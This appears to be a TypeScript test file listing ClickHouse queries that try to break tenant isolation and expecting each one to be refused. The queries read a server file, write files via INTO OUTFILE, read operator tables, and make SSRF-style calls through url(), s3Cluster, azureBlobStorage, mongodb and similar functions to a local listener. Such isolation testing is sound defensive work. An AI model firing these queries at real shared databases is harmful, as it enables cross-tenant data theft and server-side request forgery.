import { a, b, database } from '../../../../clickhouse/__tests__/isolation/tenants';
import type { Attack } from '../attack';
import { acmeMay, operatorMay, operatorReaches, operatorSees } from '../controls';
import type { Site } from '../site';

/** What lies beside the tenants' tables on the same machine: a file, another database, a listener, settings. */
export function surroundings(site: Site): readonly Attack[] {
  const file = site.fileToRead;
  const at = `127.0.0.1:${site.lure.port}`;
  const { url, user, password } = site.clickhouse;
  const rows = encodeURIComponent(site.told(`SELECT * FROM ${database}.otel_logs_${b} LIMIT 1`));
  const itself = `${url}/?user=${user}&password=${password}&query=${rows}`;
  const sees = (mechanism: string, sql: string): Attack => ({
    mechanism,
    sends: (entrance) => [entrance.request({ sql })],
    refused: true,
    control: operatorSees(sql),
  });
  const may = (mechanism: string, sql: string, parameters = {}): Attack => ({
    ...sees(mechanism, sql),
    control: operatorMay(sql, parameters),
  });
  const reaches = (mechanism: string, sql: string): Attack => ({
    ...sees(mechanism, sql),
    control: operatorReaches(sql, { http_max_tries: '1', s3_retry_attempts: '0' }),
  });
  return [
    sees('file: file()', `SELECT file('${file}')`),
    sees('file: the table function', `SELECT * FROM file('${file}', 'LineAsString')`),
    sees('file: a path as a table', `SELECT * FROM default.\`${file}\``),
    sees('file: APPLY', `SELECT * APPLY(file) FROM (SELECT '${file}' AS x)`),
    sees('file: a lambda', `SELECT arrayMap(x -> file(x), ['${file}'])`),
    sees('file: a parameter of view()', `SELECT * FROM view(SELECT file('${file}') AS x)`),
    sees('file: in a condition', `SELECT toUInt8(file('${file}'))`),
    may('file: right of IN', `SELECT 'x' IN file('${file}', 'LineAsString')`),
    may(
      'file: a table engine',
      `CREATE TEMPORARY TABLE f (x String) ENGINE = File('TSV', '${file}')`,
    ),
    // Over HTTP ClickHouse refuses the clause itself; all but the clause is allowed.
    {
      mechanism: 'file: the end of an answer',
      sends: (entrance) =>
        [
          `SELECT 1 INTO OUTFILE '${file}.out'`,
          `SELECT 1 INTO OUTFILE '${file}.out' TRUNCATE COMPRESSION 'gzip' FORMAT CSV`,
          `SELECT * FROM (SELECT 1) INTO/**/OUTFILE '${file}.out' APPEND AND STDOUT`,
          `EXPLAIN SELECT 1 INTO OUTFILE '${file}.out'`,
        ].map((sql) => entrance.request({ sql })),
      refused: true,
      control: acmeMay({ sql: 'SELECT * FROM (SELECT 1) FORMAT CSV' }),
    },
    may('operator: named collections', 'SELECT * FROM system.named_collections'),
    sees('reach: ClickHouse itself', `SELECT * FROM url('${itself}', 'TSV', 'x String')`),
    sees(
      'reach: columns of ClickHouse itself',
      `DESCRIBE url('${itself}&default_format=TSVWithNames', 'TSVWithNames')`,
    ),
    sees('operator: a table', 'SELECT s FROM other.operators'),
    sees(
      'operator: a table by a join',
      `SELECT o.s FROM ${database}.otel_logs_${a} AS l CROSS JOIN other.operators AS o LIMIT 1`,
    ),
    sees('operator: a table by merge()', "SELECT s FROM merge('other', '^operators$')"),
    sees('operator: a table by remote()', "SELECT s FROM remote('127.0.0.1', other, operators)"),
    reaches(
      'reach: url in a scalar subquery',
      `SELECT (SELECT count() FROM url('http://${at}/', 'TSV', 'x String'))`,
    ),
    reaches(
      'reach: url right of IN',
      `SELECT 'x' IN (SELECT x FROM url('http://${at}/', 'TSV', 'x String'))`,
    ),
    reaches('reach: url in DESCRIBE', `DESCRIBE url('http://${at}/', 'TSV')`),
    reaches(
      'reach: url in EXPLAIN QUERY TREE',
      `EXPLAIN QUERY TREE SELECT (SELECT x FROM url('http://${at}/', 'TSV', 'x String'))`,
    ),
    reaches(
      'reach: url in a view()',
      `SELECT * FROM view(SELECT * FROM url('http://${at}/', 'TSV', 'x String'))`,
    ),
    reaches(
      'reach: url in a common table expression',
      `WITH x AS (SELECT * FROM url('http://${at}/', 'TSV', 'x String')) SELECT * FROM x`,
    ),
    reaches(
      'reach: url in INSERT',
      `INSERT INTO FUNCTION url('http://${at}/', 'TSV', 'x String') SELECT 'x'`,
    ),
    reaches(
      'reach: a URL as a table engine',
      `CREATE TABLE other.u ENGINE = Memory AS SELECT * FROM url('http://${at}/', 'TSV', 'x String')`,
    ),
    reaches('reach: remoteSecure', `SELECT * FROM remoteSecure('${at}', d, t)`),
    reaches(
      'reach: s3Cluster',
      `SELECT * FROM s3Cluster('itself', 'http://${at}/bucket/x', 'k', 's', 'TSV', 'x String')`,
    ),
    reaches('reach: deltaLake', `SELECT * FROM deltaLake('http://${at}/bucket/x/', 'k', 's')`),
    reaches('reach: iceberg', `SELECT * FROM icebergS3('http://${at}/bucket/x/', 'k', 's')`),
    reaches(
      'reach: azureBlobStorage',
      `SELECT * FROM azureBlobStorage('DefaultEndpointsProtocol=http;AccountName=a;AccountKey=YWJj;BlobEndpoint=http://${at}/a;', 'c', 'x.csv', 'CSV', 'auto', 'x String')`,
    ),
    reaches('reach: mongodb', `SELECT * FROM mongodb('${at}', 'd', 'c', 'u', 'p', 'x String')`),
    {
      ...sees(
        'hint: an own table that is not there',
        `DESCRIBE ${database}.canary_table_of_c_${a}`,
      ),
    },
    {
      mechanism: 'settings: what Globex may use',
      sends: (entrance) =>
        [
          "SELECT value FROM system.settings WHERE name = 'max_result_rows'",
          "SELECT getSetting('max_result_rows')",
          'SELECT * FROM system.settings',
          'SELECT * FROM system.settings_profile_elements',
        ].map((sql) => entrance.request({ sql })),
      control: async () => {
        const { body } = await site.ask(
          'door',
          { sql: "SELECT value FROM system.settings WHERE name = 'max_result_rows'" },
          site.globex,
        );
        return site.leaks(body).length > 0 ? undefined : body;
      },
    },
    {
      mechanism: 'settings: filters that are in force',
      sends: (entrance) =>
        [
          "SELECT value FROM system.settings WHERE name = 'additional_table_filters'",
          `SELECT name FROM system.tables WHERE name LIKE '%${b}%'`,
        ].map((sql) => entrance.request({ sql })),
      control: operatorSees(`SELECT name FROM system.tables WHERE name LIKE '%nary%'`),
    },
  ];
}
